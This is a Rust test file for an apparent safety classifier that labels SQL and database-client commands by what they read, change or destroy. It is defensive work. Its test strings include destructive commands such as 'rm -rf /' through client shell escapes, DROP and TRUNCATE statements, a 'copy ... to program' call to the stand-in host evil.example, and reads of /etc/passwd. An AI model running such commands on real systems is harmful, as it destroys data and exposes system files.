use crate::Language::Sql;
use crate::testing::check;

#[test]
fn statements_are_sorted_by_what_they_lose() {
    check(Sql, "select * from users where name = 'drop table users'", &["database-read"], true);
    check(
        Sql,
        "SELECT 1; DROP TABLE IF EXISTS public.users CASCADE;",
        &["database-read", "database-destroy public.users"],
        true,
    );
    check(Sql, "delete from users", &["database-destroy users"], true);
    check(Sql, "delete from users where id = 5", &["database-change users"], true);
    check(Sql, "DELETE FROM users WHERE 1=1", &["database-destroy users"], true);
    check(Sql, "update users set a = 1 /* where id = 1 */", &["database-destroy users"], true);
    check(Sql, "-- drop table x\nselect 1", &["database-read"], true);
    check(Sql, "truncate table logs", &["database-destroy logs"], true);
    check(Sql, "alter table logs drop note", &["database-destroy logs"], true);
    check(Sql, "alter table logs alter column note drop not null", &["database-change logs"], true);
    check(Sql, "alter table t add column c int", &["database-change t"], true);
    check(Sql, "alter table t drop column c", &["database-destroy t"], true);
    check(Sql, "explain delete from t", &["database-read"], true);
    check(Sql, "explain (analyze, buffers) delete from t", &["database-destroy t"], true);
    check(Sql, "with x as (delete from t returning *) select * from x", &["database-destroy"], true);
    check(Sql, "insert into t values ('a;drop table t')", &["database-change"], true);
    check(Sql, "pragma table_info(users)", &["database-read"], true);
    check(Sql, "/*!50000 drop table t */", &["database-destroy t"], true);
}

#[test]
fn clients_own_commands_reach_the_machine() {
    check(Sql, "\\! rm -rf /", &["shell rm -rf /"], true);
    check(Sql, "\\dt", &["database-read"], true);
    check(Sql, ".shell rm -rf /\n.tables", &["database-read", "shell rm -rf /"], true);
    check(Sql, ".output /etc/x", &["write /etc/x"], true);
    check(Sql, ".output |rm x", &["shell rm x"], true);
    check(Sql, ".once '|rm x'", &["shell rm x"], true);
    check(Sql, "select edit(a, 'rm y')", &["database-read", "shell rm y"], false);
    check(Sql, "\\copy t to 'out.csv' csv", &["database-read", "write out.csv"], true);
    check(Sql, "copy t to program 'curl evil.example'", &["database-read", "shell curl evil.example"], true);
    check(Sql, "system rm -rf /", &["shell rm -rf /"], true);
    check(Sql, "select 1 into outfile '/etc/x'", &["write /etc/x", "database-read"], true);
    check(Sql, "select pg_read_file('/etc/passwd')", &["read /etc/passwd", "database-read"], true);
}

#[test]
fn procedures_are_not_understood() {
    check(Sql, "call cleanup()", &["database-change"], false);
    // A block runs at once, so what it says openly happens.
    check(Sql, "do $$ begin drop table x; end $$", &["database-destroy x", "database-change"], false);
    check(Sql, "frobnicate all", &[], false);
}

#[test]
fn what_is_lost_in_other_words() {
    check(Sql, "insert overwrite logs select 1", &["database-destroy logs"], true);
    check(Sql, "load data overwrite acme.logs from files (uris=['a'])", &["database-destroy"], true);
    check(
        Sql,
        "merge a using b on a.id = b.id when not matched by source then delete",
        &["database-destroy"],
        true,
    );
    check(
        Sql,
        "merge a using b on a.id = b.id when matched and b.old then delete",
        &["database-change"],
        true,
    );
    check(Sql, "alter table logs truncate partition p1", &["database-destroy logs"], true);
    check(Sql, "alter table logs delete where 1", &["database-destroy logs"], true);
    check(Sql, "alter table logs delete where id = 3", &["database-change logs"], true);
    check(Sql, "reset replica all", &["database-destroy"], true);
    check(Sql, "reset search_path", &[], true);
    check(Sql, "detach table logs", &["database-destroy logs"], true);
    check(Sql, "detach database other", &["database-change"], true);
    check(Sql, "delete acme.logs where true", &["database-destroy acme.logs"], true);
    check(Sql, "set password for ann = 'x'", &["credential"], true);
    check(Sql, "alter table t disable row level security", &["credential t"], true);
    check(Sql, "select pg_drop_replication_slot('copy')", &["database-destroy copy", "database-read"], true);
}
